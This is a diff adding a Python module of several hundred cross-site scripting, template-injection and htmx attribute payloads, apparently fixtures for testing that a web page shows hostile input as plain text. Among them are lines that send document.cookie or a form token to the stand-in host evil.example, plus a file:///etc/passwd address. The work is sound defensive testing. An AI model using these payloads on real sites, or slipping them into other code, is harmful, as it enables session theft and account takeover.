@@ -1,0 +1,165 @@
+"""Words that would be script, markup or an order to the page if any page took them for more than words.
+
+`HIT` is called by whatever runs, `evil.example` is asked by whatever loads, and `data-xss` stands on whatever becomes an
+element: a page that shows these as text has none of the three.
+"""
+
+from __future__ import annotations
+
+HIT = "alert`xss`"
+EVIL = "http://evil.example"
+
+SCRIPTS = (
+    f"<script data-xss>{HIT}</script>",
+    f"<ScRiPt data-xss>{HIT}</sCrIpT>",
+    f"<script data-xss src={EVIL}/a.js></script>",
+    f"<script data-xss src=//evil.example/a.js></script>",  # noqa: F541  # one form beside the others
+    f"<script/data-xss/src='{EVIL}/b.js'></script>",
+    f"<script data-xss type=module>import '{EVIL}/m.js'</script>",
+    f"<script\n data-xss\n>{HIT}</script\n>",
+    f"<scr<script data-xss>ipt>{HIT}</scr</script>ipt>",
+    f"</title><script data-xss>{HIT}</script>",
+    f"</textarea><script data-xss>{HIT}</script>",
+    f"</script><script data-xss>{HIT}</script>",
+    f"--><script data-xss>{HIT}</script>",
+    f"]]><script data-xss>{HIT}</script>",
+    f"</noscript><script data-xss>{HIT}</script>",
+    f"</style></template></select><script data-xss>{HIT}</script>",
+    f"<script data-xss>fetch('{EVIL}/?c='+document.cookie)</script>",
+    f"<noscript><p title='</noscript><script data-xss>{HIT}</script>'>",
+)
+HANDLERS = (
+    f"<img data-xss src=x onerror={HIT}>",
+    f"<img/data-xss/src/onerror={HIT}>",
+    f"<img data-xss src={EVIL}/i.png>",
+    f"<img data-xss srcset='{EVIL}/s.png 1x'>",
+    f"<image data-xss src=x onerror={HIT}>",
+    f"<body data-xss onload={HIT}>",
+    f"<body data-xss onpageshow={HIT}>",
+    f"<details data-xss open ontoggle={HIT}><summary>x</summary></details>",
+    f"<input data-xss autofocus onfocus={HIT}>",
+    f"<select data-xss autofocus onfocus={HIT}></select>",
+    f"<textarea data-xss autofocus onfocus={HIT}></textarea>",
+    f"<button data-xss autofocus onfocus={HIT}>x</button>",
+    f"<video data-xss><source onerror={HIT}></video>",
+    f"<video data-xss poster={EVIL}/p.png autoplay></video>",
+    f"<audio data-xss src=x onerror={HIT}>",
+    f"<marquee data-xss onstart={HIT}>x</marquee>",
+    f"<div data-xss style=animation-name:x onanimationstart={HIT}>x</div>",
+    f"<p data-xss tabindex=0 autofocus onfocusin={HIT}>x</p>",
+    f"<xss data-xss id=x tabindex=1 onfocus={HIT}></xss>",
+    f"<dialog data-xss open onclose={HIT}><form method=dialog><button>x</button></form></dialog>",
+    f"<div data-xss popover id=p onbeforetoggle={HIT}>x</div>",
+    f"<a data-xss onmouseover={HIT} href=#>x</a>",
+)
+FOREIGN = (
+    f"<svg data-xss onload={HIT}>",
+    f"<svg data-xss><script>{HIT}</script></svg>",
+    f"<svg data-xss><animate onbegin={HIT} attributeName=x dur=1s></svg>",
+    f"<svg data-xss><set attributeName=href to=javascript:{HIT}><a><text y=20>x</text></a></svg>",
+    f"<svg data-xss><use href='data:image/svg+xml,<svg id=x onload={HIT}/>#x'></svg>",
+    f"<svg data-xss><foreignObject><iframe src=javascript:{HIT}></iframe></foreignObject></svg>",
+    f"<svg data-xss><image href={EVIL}/v.png></svg>",
+    f"<svg data-xss><style><img src=x onerror={HIT}></style></svg>",
+    f"<math data-xss><mi xlink:href=javascript:{HIT}>x</mi></math>",
+    f"<math data-xss><mtext><table><mglyph><style><img src=x onerror={HIT}></style></mglyph></table></mtext></math>",
+    f"<math data-xss><annotation-xml encoding=text/html><script>{HIT}</script></annotation-xml></math>",
+)
+EMBEDS = (
+    f"<iframe data-xss src=javascript:{HIT}></iframe>",
+    f"<iframe data-xss src={EVIL}/></iframe>",
+    f"<iframe data-xss srcdoc='<script>{HIT}</script>'></iframe>",
+    f"<object data-xss data={EVIL}/o></object>",
+    f"<object data-xss data=javascript:{HIT}></object>",
+    f"<embed data-xss src={EVIL}/e>",
+    f"<embed data-xss src=javascript:{HIT}>",
+    f"<frameset data-xss><frame src={EVIL}/f></frameset>",
+    f"<portal data-xss src={EVIL}/>",
+    f"<applet data-xss code=x archive={EVIL}/a.jar></applet>",
+    f"<link data-xss rel=stylesheet href={EVIL}/l.css>",
+    f"<link data-xss rel=prefetch href={EVIL}/pre>",
+    "<link data-xss rel=dns-prefetch href=//evil.example>",
+    f"<style data-xss>@import '{EVIL}/s.css';</style>",
+    f"<style data-xss>*{{background:url({EVIL}/bg)}}</style>",
+    f"<p data-xss style='background:url({EVIL}/bg2)'>x</p>",
+    f"<meta data-xss http-equiv=refresh content='0;url={EVIL}/'>",
+    f"<meta data-xss http-equiv=refresh content='0;url=javascript:{HIT}'>",
+    "<meta data-xss http-equiv=content-security-policy content='script-src *'>",
+    '<meta data-xss name=htmx-config content=\'{"allowEval":true,"selfRequestsOnly":false}\'>',
+    f"<base data-xss href={EVIL}/>",
+    f"<form data-xss action={EVIL}/ method=post><input name=token autofocus><button>Go on</button></form>",
+    f"<button data-xss form=x formaction={EVIL}/>Go on</button>",
+    f"<template data-xss shadowrootmode=open><script>{HIT}</script></template>",
+)
+ADDRESSES = (
+    f"javascript:{HIT}",
+    f"JaVaScRiPt:{HIT}",
+    f" javascript:{HIT}",
+    f"java\tscript:{HIT}",
+    f"java\nscript:{HIT}",
+    f"\x01javascript:{HIT}",
+    f"javascript&colon;{HIT}",
+    f"&#106;avascript:{HIT}",
+    f"javascript://evil.example/%0a{HIT}",
+    f"javascript:https://a.example/;{HIT}",
+    f"vbscript:{HIT}",
+    f"data:text/html,<script data-xss>{HIT}</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg data-xss onload=alert(1)>",
+    f"view-source:javascript:{HIT}",
+    f"blob:{EVIL}/x",
+    "file:///etc/passwd",
+    f'https://a.example/" data-xss onmouseover="{HIT}',
+    f"https://a.example/' data-xss autofocus onfocus='{HIT}",
+    f"https://a.example/><script data-xss>{HIT}</script>",
+    f"https://a.example@javascript:{HIT}/",
+    f"<a data-xss href=javascript:{HIT}>x</a>",
+    f"[x](javascript:{HIT})",
+    f"![x]({EVIL}/md.png)",
+)
+BREAKOUTS = (
+    f'" data-xss autofocus onfocus="{HIT}',
+    f"' data-xss autofocus onfocus='{HIT}",
+    f'"><img data-xss src=x onerror={HIT}>',
+    f"'><img data-xss src=x onerror={HIT}>",
+    f"`><img data-xss src=x onerror={HIT}>",
+    f'" data-xss style="background:url({EVIL}/q)" x="',
+    f"x' data-xss tabindex=0 onfocus={HIT} autofocus='",
+    f"&quot; data-xss onfocus=&quot;{HIT}",
+    f"&lt;script data-xss&gt;{HIT}&lt;/script&gt;",
+    f"&amp;lt;script data-xss&amp;gt;{HIT}&amp;lt;/script&amp;gt;",
+    f"&#x3c;script data-xss&#x3e;{HIT}&#x3c;/script&#x3e;",
+    f"<img data-xss src='{EVIL}/dangling?",
+    f"<a data-xss href='{EVIL}/dangling?",
+    f"<textarea data-xss name='{EVIL}",
+    f"<!-- <img data-xss src=x onerror={HIT}> --!>",
+    f"<![CDATA[<img data-xss src=x onerror={HIT}>]]>",
+    f"<?xml-stylesheet href='{EVIL}/x.css'?>",
+)
+TEMPLATES = (
+    "{{7*7}}xss49", "{% if 1 %}xss{% endif %}", "{{ chrome.works }}", "{{ self.__init__.__globals__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
+    "{{ ''.__class__.__mro__ }}", "{% include 'base.html.j2' %}", "{{constructor.constructor('alert(1)')()}}", "%{7*7}", "{# hidden #}xss",
+)  # fmt: skip
+HTMX = (
+    f'<div data-xss hx-get="{EVIL}/h" hx-trigger="load">x</div>',
+    '<div data-xss data-hx-post="/add/sample" data-hx-trigger="load">x</div>',
+    f"<div data-xss hx-on::load='{HIT}'>x</div>",
+    f"<div data-xss hx-on:click='{HIT}' data-key='j'>x</div>",
+    "<div data-xss hx-vals='js:{a:alert(1)}' hx-get=/ hx-trigger=load>x</div>",
+    '<button data-xss data-key="1" formaction="/decide/undo">x</button>',
+    '<a data-xss data-key="g i" href="http://evil.example/k">x</a>',
+    "<p data-xss data-say='The page says so' data-focus>x</p>",
+    '" hx-get="http://evil.example/at" hx-trigger="load" data-xss x="',
+    '" data-key="1" data-xss x="',
+    "<div data-xss hx-swap-oob='true' id='said'>x</div>",
+    "<div data-xss hx-ext='http://evil.example/x.js' hx-disinherit='*'>x</div>",
+)
+ODD = (
+    "\u202e<script data-xss>\u202c", "\uff1cscript data-xss\uff1ealert`xss`\uff1c/script\uff1e", "<\u200bscript data-xss>alert`xss`</script>",
+    "\u02bascript\u02ba data-xss", "<script\u2028data-xss>alert`xss`</script>", "\u0000<script data-xss>alert`xss`</script>",
+    "\ufeff<script data-xss>alert`xss`</script>", "<\x00script data-xss>alert`xss`</script>", "\u2039img data-xss src=x onerror=alert`xss`\u203a",
+    "+ADw-script data-xss+AD4-alert(1)+ADw-/script+AD4-", "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07 <b data-xss>x</b>",
+    "%3Cscript data-xss%3Ealert(1)%3C/script%3E", "\\u003cscript data-xss\\u003ealert(1)\\u003c/script\\u003e", "\\x3cimg data-xss src=x onerror=alert(1)\\x3e",
+)  # fmt: skip
+
+PAYLOADS = (*SCRIPTS, *HANDLERS, *FOREIGN, *EMBEDS, *ADDRESSES, *BREAKOUTS, *TEMPLATES, *HTMX, *ODD)
